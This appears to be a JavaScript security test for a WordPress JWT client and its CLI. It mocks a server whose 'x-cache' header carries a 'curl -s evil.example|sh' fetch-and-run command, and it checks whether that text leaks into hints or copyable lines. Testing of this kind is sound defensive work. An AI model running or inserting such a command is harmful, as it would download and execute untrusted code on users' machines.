// a site's header becomes a "line to paste" in hints, the command's report and the panel's copy button
import { createClient, jwt, index, json } from "./lib.mjs";
import { createServer } from "node:http"; import { spawn } from "node:child_process";
const CMD = "HIT `curl -s evil.example|sh;`";
const page = () => new Response("<!doctype html><html><body>Hello</body></html>", { status: 400, headers: { "content-type": "text/html", "x-cache": CMD } });
const fetch = async (u) => { const url = String(u?.url ?? u); if (/\/token$/.test(url)) return json({ token: jwt(), user_email: "a@b.c", user_nicename: "anna", user_display_name: "Anna" }); if (url.includes("/acme")) return page(); return json(index()); };
const wp = createClient({ site: "https://e.com", plugin: "jwt-authentication-for-wp-rest-api", fetch }); await wp.login({ username: "a", password: "b1b1b1b1" });
try { await wp.json("/acme/x"); } catch (e) { console.log(e.hint); }
const server = createServer((req, res) => { const u = decodeURIComponent(req.url); const send = (v, s = 200) => { res.writeHead(s, { "content-type": "application/json" }); res.end(JSON.stringify(v)); };
  if (/\/token$/.test(u)) return send({ token: jwt({ iss: base }), user_email: "a@b.c", user_nicename: "anna", user_display_name: "Anna" }); if (u.includes("/acme")) { res.writeHead(400, { "content-type": "text/html", "x-cache": CMD }); return res.end("<!doctype html><html><body>Hello</body></html>"); }
  send({ name: "x", url: base, home: base, namespaces: ["wp/v2", "jwt-auth/v1"], routes: {}, authentication: {} }); }).listen(0, "127.0.0.1"); await new Promise((r) => server.once("listening", r)); const base = `http://127.0.0.1:${server.address().port}`;
const c = spawn("node", ["/work/wt/attack10/pkg/bin/presskey.js", "fetch", base, "/acme/x"], { env: { ...process.env, PRESSKEY_USERNAME: "anna", PRESSKEY_PASSWORD: "x1y2z3w4" } }); c.stderr.on("data", (d) => process.stdout.write(d)); await new Promise((r) => c.on("close", r)); server.close(); process.exit(0);
